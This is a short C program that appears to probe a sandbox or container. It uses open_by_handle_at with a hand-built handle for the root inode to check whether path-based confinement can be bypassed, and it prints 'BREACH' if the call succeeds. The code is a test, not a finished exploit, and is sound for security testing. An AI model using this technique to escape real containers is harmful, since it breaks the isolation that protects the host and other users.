#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(void) { /* opens inodes by number, past every path */
    struct { struct file_handle h; unsigned char id[8]; } any = {.h = {8, 1}, .id = {2}};
    int root = open("/", O_RDONLY), here = open(".", O_RDONLY);
    if (open_by_handle_at(root, &any.h, O_RDONLY) >= 0 || open_by_handle_at(here, &any.h, O_RDONLY) >= 0) puts("BREACH opened the root inode by handle");
    puts("done");
}
